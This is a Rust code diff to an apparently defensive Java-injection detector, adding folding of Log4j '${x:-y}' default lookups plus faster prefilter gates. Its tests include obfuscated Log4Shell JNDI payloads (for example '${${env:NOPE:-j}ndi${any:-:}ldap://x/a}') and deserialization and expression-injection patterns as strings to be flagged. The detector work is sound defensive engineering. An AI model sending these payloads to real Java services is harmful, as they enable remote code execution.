@@ -7,7 +7,7 @@ use ::base64::engine::general_purpose::STANDARD;
 use ::base64::Engine as _;
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 
-use super::prefilter::{lit_owned, lits, LitId, LitSet};
+use super::prefilter::{lit, lit_owned, lits, LitId, LitSet};
 use super::{AttackType, Detector, Finding};
 use crate::point::Leaf;
 
@@ -138,6 +138,9 @@ pub struct Java {
     /// the value implies its lower-cased form in `leaf.lower`).
     class_gate: Vec<LitId>,
     b64_gate: Vec<LitId>,
+    lookup_gate: LitId,
+    /// `%{` (with a `#` or `@` somewhere), `${#`, `#{t(`, `t(java`.
+    expr_gate: Vec<LitId>,
 }
 
 /// Base64 fragments that appear whatever the alignment of `name` in the encoded stream.
@@ -194,6 +197,8 @@ impl Java {
                 .iter()
                 .map(|f| lit_owned(&f.to_ascii_lowercase()))
                 .collect(),
+            lookup_gate: lit("${"),
+            expr_gate: lits(&["%{", "${#", "#{t(", "t(java"]),
         }
     }
 }
@@ -229,6 +234,22 @@ fn fold_lookups(lower: &str) -> String {
                 s.replace_range(p..inner_start + close + 1, &inner);
             }
         }
+        // `${anything:-x}` is its default `x` whenever `anything` does not resolve:
+        // `${::-j}`, `${env:NOPE:-j}`, `${:1337:-x$}{jndi:…}`.
+        let mut from = 0;
+        while let Some(q) = s[from..].find("${").map(|q| from + q) {
+            let body = &s[q + 2..];
+            let close = body.find(['}', '{']);
+            let dash = body.find(":-");
+            match (close, dash) {
+                (Some(c), Some(d)) if d < c && body.as_bytes()[c] == b'}' => {
+                    let default = body[d + 2..c].to_owned();
+                    s.replace_range(q..q + 2 + c + 1, &default);
+                    from = q + default.len();
+                }
+                _ => from = q + 2,
+            }
+        }
         if s.len() == before {
             break;
         }
@@ -243,7 +264,13 @@ impl Detector for Java {
 
     fn check(&self, leaf: &Leaf, present: &LitSet) -> Option<Finding> {
         let s = leaf.lower.as_str();
-        if let Some(p) = s.find("${") {
+        // Literal searches only where the prefilter saw the literal: each `find` costs a
+        // searcher set-up and a pass over the value.
+        if let Some(p) = present
+            .has(self.lookup_gate)
+            .then(|| s.find("${"))
+            .flatten()
+        {
             // A lookup chain longer than this is not needed to spell `${jndi:`; the bound keeps
             // thousands of nested wrappers from costing quadratic time.
             let mut cut = s.len().min(p + 2048);
@@ -273,10 +300,9 @@ impl Detector for Java {
                 });
             }
         }
-        if s.contains("%{") && (s.contains('#') || s.contains('@'))
-            || s.contains("${#")
-            || s.contains("#{t(")
-            || s.contains("t(java")
+        if present.any(&self.expr_gate)
+            && (present.has(self.expr_gate[0]) && (s.contains('#') || s.contains('@'))
+                || present.any(&self.expr_gate[1..]))
         {
             let p = s
                 .find("%{")
@@ -347,6 +373,8 @@ mod tests {
             "java.evil.Runtime",
             "runtime.clonetransformer",
             "com.opensymphony.xwork2",
+            "${:42:-x$}{jndi:dns://x/a}",
+            "${${env:NOPE:-j}ndi${any:-:}ldap://x/a}",
         ] {
             assert!(hit(v), "{v}");
         }
@@ -363,6 +391,8 @@ mod tests {
             "javadoc.runtime.html",
             "My java runtime is 17",
             "org.example.Application",
+            "${name:-guest}",
+            "${HOME:-/tmp}/x",
         ] {
             assert!(!hit(v), "{v}");
         }
